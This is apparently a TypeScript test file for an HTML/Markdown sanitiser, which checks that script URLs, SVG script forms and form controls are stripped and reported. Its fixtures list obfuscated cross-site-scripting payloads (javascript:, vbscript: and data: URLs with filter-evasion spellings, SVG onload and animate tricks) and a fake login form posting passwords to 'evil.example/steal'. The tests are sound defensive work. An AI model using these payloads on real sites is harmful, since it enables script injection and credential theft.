import { describe, expect, it } from 'vitest';
import { isSafeUrl, normaliseUrl, safeDecodeUri } from '../../src/markdown/safe-url.ts';
import { assembleWithMessages, chapterHtml } from '../helpers/project.ts';
import { hostileProject } from './helpers.ts';

/** Assemble one chapter and return its HTML and messages. */
async function render(body: string) {
  const root = await hostileProject(`\n${body}\n`);
  const { project, messages } = await assembleWithMessages(root);
  return { html: chapterHtml(project, 'doc', 'intro'), messages };
}

/** Script-ish text that must not survive, whatever the spelling (controls and spaces removed). */
function scriptTraces(html: string): string[] {
  // eslint-disable-next-line no-control-regex -- the obfuscations use control characters.
  const squashed = html.replace(/[\u0000-\u0020]|&#x?[0-9a-f]+;?/gi, '').toLowerCase();
  return ['javascript:', 'vbscript:', 'data:', 'alert('].filter((trace) =>
    squashed.includes(trace),
  );
}

const obfuscatedUrls: [string, string][] = [
  ['a line feed as a character reference', 'java&#x0A;script:alert(1)'],
  ['a tab as a character reference', 'java&#9;script:alert(1)'],
  ['a literal tab', 'java\tscript:alert(1)'],
  ['a leading control character', '\u0001javascript:alert(1)'],
  ['leading spaces and a carriage return', '  jav&#13;ascript:alert(1)'],
  ['mixed case', 'JaVaScRiPt:alert(1)'],
  ['a decimal reference for the first letter', '&#106;avascript:alert(1)'],
  ['a named reference for the colon', 'javascript&colon;alert(1)'],
  ['a data: URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['a vbscript: URL', 'vbscript:msgbox(1)'],
];

describe('obfuscated script URLs in raw HTML are removed and reported', () => {
  for (const [name, url] of obfuscatedUrls) {
    for (const [tag, html] of [
      ['a href', `<a href="${url}">x</a>`],
      ['img src', `<img alt="x" src="${url}">`],
      ['area href', `<map name="m"><area alt="x" href="${url}"></map>`],
      ['blockquote cite', `<blockquote cite="${url}">q</blockquote>`],
    ] as const) {
      it(`${name} in ${tag}`, async () => {
        const result = await render(html);
        expect(result.messages.join('\n')).toMatch(
          /disallowed URL on `<\w+>` removed \[html-unsafe\]/,
        );
        expect(scriptTraces(result.html)).toEqual([]);
      });
    }
  }

  it('in srcset, ping, poster, formaction, background, data', async () => {
    const result = await render(
      [
        '<img alt="x" src="a.png" srcset="ok.png 1x, javascript:alert(1) 2x">',
        '<a href="https://example.org" ping="https://example.org javascript:alert(1)">p</a>',
        '<video poster="javascript:alert(1)"></video>',
        '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
      ].join('\n\n'),
    );
    expect(result.messages.filter((m) => m.includes('disallowed URL'))).toHaveLength(4);
    expect(scriptTraces(result.html)).toEqual([]);
  });

  it('in Markdown links and images too (one judge)', async () => {
    const result = await render(
      '[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](vbscript:x) ![d](data:image/svg+xml,alert(1))',
    );
    expect(result.messages.length).toBeGreaterThanOrEqual(4);
    expect(scriptTraces(result.html)).toEqual([]);
  });

  it('keeps http, https, mailto, relative and #fragment URLs', async () => {
    const result = await render(
      '<a href="https://example.org/a">1</a> <a href="http://example.org">2</a> <a href="mailto:x@example.org">3</a> <a href="#intro">4</a> <a href="../other/">5</a> <a href="a:b/c">6</a>',
    );
    expect(result.html).toContain('href="https://example.org/a"');
    expect(result.html).toContain('href="mailto:x@example.org"');
    expect(result.html).toContain('href="#intro"');
    expect(result.html).toContain('href="../other/"');
    expect(result.html).not.toContain('a:b/c');
  });
});

describe('script forms of inline SVG in raw HTML are removed and reported', () => {
  const forms: [string, string][] = [
    ['<script>', '<svg><script>alert(1)</script></svg>'],
    ['onload', '<svg onload="alert(1)"><rect width="1" height="1"/></svg>'],
    ['an event handler on a child', '<svg><rect onclick="alert(1)" width="1" height="1"/></svg>'],
    [
      '<a xlink:href="javascript:">',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    ],
    ['<a href="javascript:">', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>'],
    [
      '<foreignObject>',
      '<svg><foreignObject><iframe src="https://example.org"></iframe></foreignObject></svg>',
    ],
    [
      '<set attributeName="href">',
      '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    ],
    [
      '<animate values>',
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    ],
    ['<use href="data:">', '<svg><use href="data:image/svg+xml,alert(1)"/></svg>'],
    ['<template>', '<template><script>alert(1)</script></template>'],
    ['<math href>', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ];
  for (const [name, html] of forms) {
    it(name, async () => {
      const result = await render(html);
      expect(result.messages.join('\n')).toMatch(/\[html-unsafe\]/);
      expect(scriptTraces(result.html)).toEqual([]);
      expect(result.html).not.toMatch(
        /<(script|foreignObject|set|animate|template|iframe)\b|\son\w+=/i,
      );
    });
  }
});

describe('forms and inputs in raw HTML are removed and reported', () => {
  const forms: [string, string][] = [
    [
      'a login form',
      '<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form>',
    ],
    ['a button with formaction', '<button formaction="https://evil.example">Go</button>'],
    ['a lone input', '<input type="text" name="q">'],
    ['a textarea', '<textarea>x</textarea>'],
    ['a select', '<select><option>a</option></select>'],
    ['a keygen', '<keygen name="k">'],
  ];
  for (const [name, html] of forms) {
    it(name, async () => {
      const result = await render(html);
      expect(result.messages.join('\n')).toMatch(
        /Raw HTML form control `<\w+>` removed: .* \[html-unsafe\]/,
      );
      expect(result.html).not.toMatch(/<(form|input|button|textarea|select|option|keygen)\b/);
    });
  }

  it('keeps GFM task-list checkboxes', async () => {
    const result = await render('- [x] done\n- [ ] open');
    expect(result.messages).toEqual([]);
    expect(result.html).toMatch(/<input type="checkbox" checked disabled/);
  });
});

describe('the URL normaliser and the safe decoder', () => {
  it('normalises as browsers do', () => {
    expect(normaliseUrl('\u0000 java\tsc\nri\rpt:x \u001f')).toBe('javascript:x');
    expect(isSafeUrl('\u0001JAVASCRIPT:x')).toBe(false);
    expect(isSafeUrl('figures/a:b.svg')).toBe(true);
    expect(isSafeUrl('//example.org/x')).toBe(true);
  });
  it('never throws on a stray %', () => {
    expect(safeDecodeUri('figures/100%.svg')).toBe('figures/100%.svg');
    expect(safeDecodeUri('figures/a%20b%.svg')).toBe('figures/a b%.svg');
    expect(safeDecodeUri('figures/%E2%82%AC.svg')).toBe('figures/€.svg');
  });
});
